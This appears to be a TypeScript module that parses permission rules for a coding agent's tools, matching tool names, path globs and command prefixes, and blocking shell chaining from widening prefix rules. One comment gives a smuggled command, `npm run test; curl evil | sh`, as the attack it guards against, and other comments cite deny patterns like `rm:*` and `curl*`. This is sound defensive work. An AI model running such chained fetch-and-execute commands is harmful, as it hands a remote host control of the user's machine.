import { homedir } from 'node:os';
import { isAbsolute } from 'node:path';
import { ExecutorError, ExecutorErrorCode } from '../executor-error.js';
import { globMatcher } from './lazy-picomatch.js';

/** What a rule does when it matches. */
export type RuleBehavior = 'allow' | 'ask' | 'deny';

/**
 * A parsed permission rule, in the form people already write for coding agents:
 * - `Read` — every call of the tool; `mcp__github__*` — `*` in a tool name matches any characters;
 * - `Read(src/**)` — calls whose every path matches the glob. Relative globs are relative to the
 *   workspace, `/abs/**` and `//abs/**` are absolute, `~/x` is in the home directory. `dir/**`
 *   also covers `dir` itself, and `**` (`./**`, `~/**`) the workspace (home) directory itself.
 *   A path rule with a `..` segment is refused: use an absolute or a `~/` path instead.
 *   In a path glob only `*`, `**`, `?`, `{a,b}` and a leading `!` are special; parentheses and
 *   brackets are literal (`Read(app/(admin)/**)`, `Read(app/[slug]/**)`), and a backslash makes
 *   the next character literal (`\*`, `\{`). Paths and globs are compared in Unicode NFC;
 * - `Bash(npm run test:*)` — for a tool without paths, the call's permission content (the part in
 *   parentheses of its `permissionSignature`): `prefix:*` is a prefix, `*` a wildcard, anything
 *   else exact.
 */
export interface PermissionRule {
  readonly source: string;
  readonly behavior: RuleBehavior;
  readonly matchesToolName: (toolName: string) => boolean;
  /** Absent for a whole-tool rule. */
  readonly specifier: RuleSpecifier | undefined;
}

/** The part in parentheses, compiled both ways: as a path glob and as a content pattern. */
export interface RuleSpecifier {
  readonly text: string;
  /** Tests an absolute, real path. */
  readonly matchesPath: (absolutePath: string, workspaceRoot: string) => boolean;
  /** Tests a call's permission content. */
  readonly matchesContent: (content: string) => boolean;
  /**
   * Reads as a command (`rm:*`, `git push --force`, `make`, `curl*`: a prefix pattern, one with
   * blanks, or one without `/` that does not start with `.` or `~`). A deny or ask rule with such
   * a specifier is matched against the call's content even when the tool has paths.
   */
  readonly looksLikeContent: boolean;
  /** No unescaped `*`, `?`, `{`, `}` and no leading `!` (`.env`, `app/(admin)/page.tsx`): the rule names one path, compared exactly. */
  readonly isLiteral: boolean;
  /**
   * Matches anything under its anchor: after `./`, `/`, `//` or `~/`, nothing but wildcards,
   * separators, dots and glob punctuation (`**`, `*`, `/**`, `~/**`, `.*`, `{*,**}`, and `**`
   * followed by `/*`), or a negation (`!x`). Such a rule does not name a path.
   */
  readonly isCatchAll: boolean;
}

const RULE_SYNTAX = /^([A-Za-z0-9_*.-]+)(?:\(([\s\S]*)\))?$/s;
const ACCEPTED_FORMS =
  '"Tool", "Tool(glob)" such as "Read(src/**)", "mcp__server__*", "Bash(npm run test:*)"';

/** Options of {@link parsePermissionRule}. */
export interface ParseRuleOptions {
  /** What `~/` in a rule means. Default: the current user's home directory, read once. */
  readonly homeDir?: string;
}

/** Parses one rule; the error names the rule, the list it came from, and the accepted forms. */
export function parsePermissionRule(
  source: unknown,
  behavior: RuleBehavior,
  options: ParseRuleOptions = {},
): PermissionRule {
  const refusal = (why: string) =>
    new ExecutorError(
      ExecutorErrorCode.InvalidPermissionRule,
      `Invalid rule ${JSON.stringify(source)} in permissions.${behavior}${why}`,
    );
  const invalid = `; accepted forms: ${ACCEPTED_FORMS}.`;
  if (typeof source !== 'string') throw refusal(invalid);
  const trimmed = source.trim();
  const match = RULE_SYNTAX.exec(trimmed);
  if (match === null || (match[2] !== undefined && match[2].trim() === '')) throw refusal(invalid);
  const written = match[2];
  return {
    source: trimmed,
    behavior,
    matchesToolName: compileNamePattern(match[1] as string),
    specifier:
      written === undefined
        ? undefined
        : compileSpecifier(
            pathRuleText(written, refusal),
            options.homeDir ?? homedir(),
            behavior !== 'allow',
          ),
  };
}

/** The specifier without its layout blanks, refused when it is a path rule with a `..` segment. */
function pathRuleText(written: string, refusal: (why: string) => ExecutorError): string {
  const text = trimLayout(written);
  if (climbsOut(text)) {
    throw refusal(
      ': a path rule cannot contain a ".." segment; it is matched against resolved paths, so it would never match. Use an absolute path such as "Read(/srv/shared/**)" or one in the home directory such as "Read(~/shared/**)". (A command rule ends with ":*" or has arguments: "Bash(../run.sh:*)".)',
    );
  }
  return text;
}

/** Blanks around a specifier are layout, except one a backslash escapes (part of a file name). */
function trimLayout(text: string): string {
  const start = text.trimStart();
  const trimmed = start.trimEnd();
  // `\\*$` matches every string (with no backslash at the end, as an empty run).
  const escapes = (/\\*$/.exec(trimmed) as RegExpExecArray)[0].length;
  return escapes % 2 === 1 ? start.slice(0, trimmed.length + 1) : trimmed;
}

function compileNamePattern(pattern: string): (name: string) => boolean {
  // Most rules name one tool: compared as a string, not through a regular expression (a search
  // asks every deny rule about every file it reads).
  if (!pattern.includes('*')) return (name) => name === pattern;
  const expression = new RegExp(`^${pattern.split('*').map(escapeRegExp).join('.*')}$`);
  return (name) => expression.test(name);
}

/**
 * `nocase`: deny and ask rules ignore case, so that on a case-insensitive file system (macOS,
 * Windows) `Vault/x` does not slip past `Read(vault/**)`; allow rules keep it (narrow).
 */
function compileSpecifier(typed: string, typedHome: string, nocase: boolean): RuleSpecifier {
  const text = nfc(typed);
  const home = nfc(typedHome);
  const anchor = globAnchor(text);
  // dot: a rule on `secrets/**` must cover `secrets/.env` too.
  const isLiteral = !UNESCAPED_GLOB_CHARACTER.test(text) && !text.startsWith('!');
  const glob = isLiteral
    ? literalMatcher(anchor.glob, nocase)
    : globMatcher(toPicomatch(anchor.glob), { dot: true, nocase });
  // `**` (`./**`, `~/**`) covers the workspace (home) directory itself, as `dir/**` covers `dir`.
  const coversAnchor = ONLY_GLOBSTARS.test(anchor.glob) || glob('.');
  // A policy passes its one workspace root on every match: its normal form is kept, not redone.
  let root = '';
  let nfcRoot = '';
  return {
    text,
    matchesPath(absolutePath, workspaceRoot) {
      const path = nfc(absolutePath);
      if (anchor.kind === 'absolute') return glob(path);
      if (workspaceRoot !== root) {
        nfcRoot = nfc(workspaceRoot);
        root = workspaceRoot;
      }
      const relative = relativeInside(path, anchor.kind === 'workspace' ? nfcRoot : home, nocase);
      if (relative === undefined) return false;
      return relative === '' ? coversAnchor : glob(relative);
    },
    matchesContent: (
      (matches) => (content: string) =>
        matches(nfc(content))
    )(compileContentPattern(text)),
    looksLikeContent:
      readsAsCommand(text) || !(text.includes('/') || text.startsWith('.') || text.startsWith('~')),
    isLiteral,
    isCatchAll: anchor.glob.startsWith('!') || !NAMING_CHARACTER.test(anchor.glob),
  };
}

/** Characters that, escaped, a regular expression reads as a class or an assertion (tested on one character). */
const ESCAPE_IS_A_CLASS = /[A-Za-z0-9]/;

/**
 * A rule's path glob in picomatch's syntax: parentheses, brackets and `|` are escaped (picomatch
 * would read them as a group, a character class or an alternative, so `app/(admin)/**` would
 * miss the Next.js route group `app/(admin)`); a backslash and the character after it are kept
 * (picomatch reads that as the literal character), except a letter or digit, which is kept bare.
 */
function toPicomatch(glob: string): string {
  let out = '';
  let afterEscapedBackslash = false;
  for (let index = 0; index < glob.length; index += 1) {
    const character = glob[index] as string;
    if (character === '\\' && index + 1 < glob.length) {
      const next = glob[index + 1] as string;
      // picomatch reads `\\\\` as one backslash: a second one in a row goes in a bracket class.
      // An escaped letter or digit is kept bare: picomatch would pass `\w`, `\d`, `\s` or
      // `\b` on to its regular expression as a class or a boundary, matching more than written.
      if (next === '\\' && afterEscapedBackslash) out += '[\\\\]';
      else out += ESCAPE_IS_A_CLASS.test(next) ? next : `\\${next}`;
      afterEscapedBackslash = next === '\\';
      index += 1;
    } else {
      afterEscapedBackslash = false;
      out += LITERAL_IN_RULES.has(character) ? `\\${character}` : character;
    }
  }
  return out;
}

/**
 * The matcher of a literal glob (no unescaped `*`, `?`, `{`, `}`): the path equals the glob with
 * its escapes removed. Exact where picomatch's escaping is not (runs of escaped backslashes).
 */
function literalMatcher(glob: string, nocase: boolean): (path: string) => boolean {
  const name = glob.replace(/\\(.)/gs, '$1');
  if (!nocase) return (path) => path === name;
  const folded = name.toLowerCase();
  return (path) => path.toLowerCase() === folded;
}

/**
 * Characters picomatch gives a meaning to that a rule means literally. Not `]`: it closes only a
 * class that a `[` opened, every `[` is escaped, and picomatch reads a lone `]` as itself.
 */
const LITERAL_IN_RULES: ReadonlySet<string> = new Set(['(', ')', '[', '|']);

/**
 * `path` as a rule specifier that names exactly it: every character a rule gives a meaning to is
 * escaped (`*`, `?`, `{`, `}`, a backslash, a leading `!`, blanks at either end), and a path
 * starting with `~` (a directory of the workspace named `~`) is anchored with `./`. `parsePermissionRule` reads the result
 * back as a literal rule (`isLiteral`) matching `path`.
 */
export function escapeRulePath(path: string): string {
  let escaped = path.replace(/[\\*?{}]/g, '\\$&');
  if (escaped.startsWith('!')) escaped = `\\${escaped}`;
  // Blanks at the ends would be trimmed away as layout; escaped, they are part of the name.
  escaped = escaped.replace(/^\s/, (blank) => `\\${blank}`).replace(/\s$/, (blank) => `\\${blank}`);
  return escaped.startsWith('~') ? `./${escaped}` : escaped;
}

/** `text` in Unicode NFC; an ASCII string (nearly every path) is returned as it is without a copy. */
export function nfc(text: string): string {
  // Every rule of a policy asks for the same path in turn: the last answer is kept (a pure function of the string).
  if (text === lastNfcInput) return lastNfcOutput;
  const normal = NON_ASCII.test(text) ? text.normalize('NFC') : text;
  lastNfcInput = text;
  lastNfcOutput = normal;
  return normal;
}

let lastNfcInput = '';
let lastNfcOutput = '';

const NON_ASCII = /[^ -~\t\n\r]/;

/** `path` relative to `base` (`''` for `base` itself), or `undefined` when it is not inside. */
function relativeInside(path: string, base: string, nocase: boolean): string | undefined {
  const length = base.length;
  if (!path.startsWith(base) && !(nocase && path.slice(0, length).toLowerCase() === base.toLowerCase())) {
    return undefined;
  }
  if (path.length === length) return '';
  if (base.endsWith('/')) return path.slice(length);
  return path.charCodeAt(length) === 47 ? path.slice(length + 1) : undefined;
}

/** `**` (or several joined by slashes): every path under the anchor, and the anchor itself. */
const ONLY_GLOBSTARS = /^\*\*(?:\/\*\*)*\/?$/;
/** A `..` segment. */
const PARENT_SEGMENT = /(?:^|\/)\.\.(?:\/|$)/;

/**
 * True for a path rule with a `..` segment (`../x/**`, `/srv/ws/../x`): paths are matched after
 * resolution, so it could never match. A specifier that reads as a command (`cd ..:*`,
 * `make -C ../x`) is not a path rule.
 */
function climbsOut(text: string): boolean {
  return PARENT_SEGMENT.test(text) && !readsAsCommand(text);
}

/** A prefix command pattern (`rm:*`) or one with arguments (`git push origin`). */
function readsAsCommand(text: string): boolean {
  return text.endsWith(':*') || /\s/.test(text);
}

/** A glob character not escaped by a backslash (a leading `!` negates too). */
const UNESCAPED_GLOB_CHARACTER = /(?:^|[^\\])(?:\\\\)*[*?{}]/;
/** A character that names something in a glob: anything but wildcards, separators, dots and glob punctuation. */
const NAMING_CHARACTER = /[^*?/.{}()[\],|!@+]/;

/** Where a path glob is anchored: the workspace (relative), the file system root, or home. */
function globAnchor(text: string): { kind: 'workspace' | 'absolute' | 'home'; glob: string } {
  // Stryker disable next-line StringLiteral: matchesPath tests `kind` against 'absolute' and 'workspace' only; any other value reads as home
  if (text.startsWith('~/')) return { kind: 'home', glob: text.slice(2) };
  if (text.startsWith('//')) return { kind: 'absolute', glob: text.slice(1) };
  if (isAbsolute(text)) return { kind: 'absolute', glob: text };
  return { kind: 'workspace', glob: text.startsWith('./') ? text.slice(2) : text };
}

/**
 * Content patterns. A shell-style prefix rule must not be widened by chaining: `npm run test:*`
 * does not cover `npm run test; curl evil | sh`, so a prefix or wildcard rule matches only content
 * without shell control operators. (Deny and ask rules check each chained segment separately,
 * normalised; see `contentSegments` and `commandCandidates`.)
 */
function compileContentPattern(text: string): (content: string) => boolean {
  if (text.endsWith(':*')) {
    const prefix = text.slice(0, -2);
    return (content) =>
      !hasShellControl(content) &&
      (content === prefix || content.startsWith(`${prefix} `) || content.startsWith(`${prefix}:`));
  }
  if (text.includes('*')) {
    const expression = new RegExp(`^${text.split('*').map(escapeRegExp).join('[^]*')}$`);
    return (content) => !hasShellControl(content) && expression.test(content);
  }
  return (content) => content === text;
}

const SHELL_CONTROL = /[;&|`\n\r<>]|\$\(/;

function hasShellControl(content: string): boolean {
  return SHELL_CONTROL.test(content);
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
